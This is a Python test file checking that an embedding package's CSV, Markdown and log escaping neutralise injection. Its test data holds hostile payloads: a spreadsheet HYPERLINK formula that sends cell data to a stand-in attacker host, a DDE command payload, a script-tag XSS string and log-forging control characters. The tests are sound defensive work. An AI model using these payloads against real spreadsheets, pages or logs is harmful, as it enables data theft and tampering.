from __future__ import annotations

import pytest

from vfl_embed.errors import log_text
from vfl_embed.report.escape import csv_cell, markdown_cell

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-A1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_gets_a_leading_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-1", "+2.5", "-1e-3", "cat", "a=b", "", "1+1"])
def test_numbers_and_plain_text_stay_as_they_are(text):
    assert csv_cell(text) == text


def test_markdown_cell_cannot_break_a_table_or_inject_markup():
    hostile = "a | b\n# heading\r\n`code` <script>alert(1)</script> ![x](http://t.example/p.png)"
    cell = markdown_cell(hostile)
    assert "\n" not in cell and "\r" not in cell
    assert "<" not in cell and ">" not in cell
    assert cell.count("|") == cell.count("\\|") == 1
    assert cell.count("`") == cell.count("\\`") == 2
    assert "\\[x\\]" in cell
    assert cell == ("a \\| b # heading  \\`code\\` &lt;script&gt;alert(1)&lt;/script&gt; "
                    "!\\[x\\](http://t.example/p.png)")


def test_markdown_cell_escapes_a_leading_hash_and_backslashes():
    assert markdown_cell("# title") == "\\# title"
    assert markdown_cell("C:\\dir|x") == "C:\\\\dir\\|x"
    assert markdown_cell("peer-0") == "peer-0"


def test_log_text_keeps_one_line():
    forged = "peer-1: bad\nINFO : [learn] all good\x1b[31m\u202eevil\u2028x\ty"
    line = log_text(forged)
    assert line == "peer-1: bad INFO : [learn] all good [31m evil x y"
    assert len(line.splitlines()) == 1
    assert log_text(ValueError("a\nb")) == "a b"


def test_a_peers_error_reply_cannot_forge_log_lines():
    """A hostile peer's name and error text reach the server's log and report
    through PeerReplyError: each stays one line."""
    from vfl_embed.errors import PeerReplyError

    error = PeerReplyError("peer-1\nINFO : forged", "bad\r\nWARNING : the run passed")
    assert "\n" not in str(error) and "\r" not in str(error)
    assert error.peer == "peer-1 INFO : forged"
    assert error.reason == "bad  WARNING : the run passed"
